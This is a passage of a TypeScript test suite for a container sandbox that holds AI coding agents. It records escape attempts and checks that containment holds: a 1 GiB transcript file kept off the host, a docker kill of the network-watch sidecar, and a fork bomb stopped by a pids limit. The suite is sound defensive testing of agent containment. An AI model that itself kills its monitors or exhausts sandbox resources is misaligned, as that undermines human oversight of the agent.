  it('finding 21.5: a 1 GiB transcript file is skipped and recorded; nothing big lands on the host', async () => {
    const made = await inAgent(`${MAKE_BIG_TRANSCRIPT} && echo made`);
    expect(made.output).toContain('made');
    const stopped = await h.cli(['stop', identity]);
    const events = await h.waitForEvent(identity, 'bottle.preserved', 120_000);
    const outcome = bigTranscriptOutcome(h.home, identity, events);
    row('21.5', 'truncate -s 1G ~/.claude/big.jsonl, then bottle stop', {
      refused: !outcome.copied && outcome.stateKib < 10 * 1024 && outcome.partials.length === 0,
      recorded: outcome.skippedEvent,
      leaked: outcome.copied,
      note: `the bottle's state folder holds ${outcome.stateKib} KiB after the snapshot`,
    });
    expect(stopped.code, stopped.stderr).toBe(0);
    expect(outcome).toMatchObject({ skippedEvent: true, copied: false, partials: [] });
    expect(outcome.stateKib).toBeLessThan(10 * 1024);
  }, 180_000);
});

/**
 * Findings 21.6 and 21.8 need bottles of their own (the first ends its bottle, the second sets a limit):
 * the reproductions of their dedicated tests (sidecar-exit, pids-limit), through the same helpers.
 */
describe.each(RUNTIMES)('findings 21.6 and 21.8: a killed watch and a fork bomb under %s', (runtime) => {
  let h: BottleHarness;
  let manifest: string;
  // PID 1 ignores signals it has no handler for; the agent traps TERM so a stop ends it promptly.
  const stoppable = ['bash', '-c', 'trap "exit 143" TERM; sleep 600 & wait'];

  beforeAll(async () => {
    h = await startHarness({ env: { CLAUDE_BOTTLE_RUNTIME: runtime } });
    manifest = h.writeManifest({
      bottles: [
        { name: 'watched', egress: { allow: [] }, extra_hosts: PIN_DEFAULT_HOSTS },
        { name: 'limited', egress: { allow: [] }, extra_hosts: PIN_DEFAULT_HOSTS, limits: { pids: PIDS } },
      ],
      agents: [
        { name: 'sleeper', bottle: 'watched', command: stoppable },
        { name: 'procs', bottle: 'limited', command: stoppable },
      ],
    });
  }, 180_000);
  // Under runsc a bottle that has just run a fork bomb can take minutes to remove on two busy cores.
  afterAll(async () => {
    await h?.cleanup();
  }, 300_000);

  function row(finding: string, attempt: string, outcome: Omit<EscapeRow, 'runtime' | 'finding' | 'attempt'>): void {
    ledger.push({ runtime, finding, attempt, ...outcome });
  }

  it('finding 21.6: docker kill of the network watch ends the bottle preserved, with an event', async () => {
    const identity = identityFrom(await h.cli(['--manifest', manifest, 'start', 'sleeper', '--detach']));
    await h.waitForEvent(identity, 'netwatch.started');
    const killed = await killSidecar(h, identity, 'netwatch');
    const runningAfter = killed.seen.some((s) => s.startsWith('running'));
    const preserved = killed.preservedReason?.reason === 'enforcement_lost';
    row('21.6', 'docker kill of the network watch', {
      refused: preserved && !runningAfter,
      recorded: killed.exit.type === 'sidecar.exited',
      leaked: runningAfter,
      note: `recorded ${killed.unrecordedMs} ms after the kill; list showed ${[...new Set(killed.seen)].join(', ')}`,
    });
    expect(killed.exit.data).toMatchObject({ role: 'netwatch', code: 137, signal: 'SIGKILL' });
    expect(runningAfter).toBe(false);
    expect(preserved).toBe(true);
  }, 240_000);

  it('finding 21.8: with limits.pids 256, 100 processes run and a fork bomb stops at the limit', async () => {
    const started = await h.cli(['--manifest', manifest, 'start', 'procs', '--detach']);
    expect(started.code, started.stderr).toBe(0);
    const identity = identityFrom(started);
    await h.waitForEvent(identity, 'agent.started');
    const probe = await pidsProbe(h.docker.getContainer(`cb-${identity}-agent`));
    const exited = (await h.log.read(identity)).some((e) => e.type === 'agent.exited');
    row('21.8', 'limits.pids 256: 100 concurrent processes, then a fork bomb', {
      refused: probe.hundredRan && probe.bombStoppedAtLimit && probe.stillRunning && !exited,
      // A refused fork is the agent's own kernel's answer (EAGAIN): nothing outside sees it.
      recorded: null,
      leaked: false,
      note: `pids cgroup peak ${probe.hundredPeak} with 100 sleeps, ${probe.bombPeak} in the bomb; still running`,
    });
    expect(probe.hundredRan).toBe(true);
    expect(probe.bombStoppedAtLimit).toBe(true);
    expect(probe.stillRunning).toBe(true);
    expect(probe.forksAfter).toBe(true);
    expect(exited).toBe(false);
  }, 240_000);
});
